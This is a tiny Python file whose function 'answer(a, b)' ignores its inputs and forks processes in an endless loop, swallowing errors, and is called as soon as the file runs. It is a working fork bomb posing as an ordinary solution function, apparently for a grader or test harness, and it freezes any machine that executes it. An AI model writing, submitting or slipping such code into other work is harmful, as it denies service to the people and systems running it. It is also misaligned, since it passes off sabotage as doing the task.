"""Forks without end."""
import os


def answer(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass


answer(0, 0)
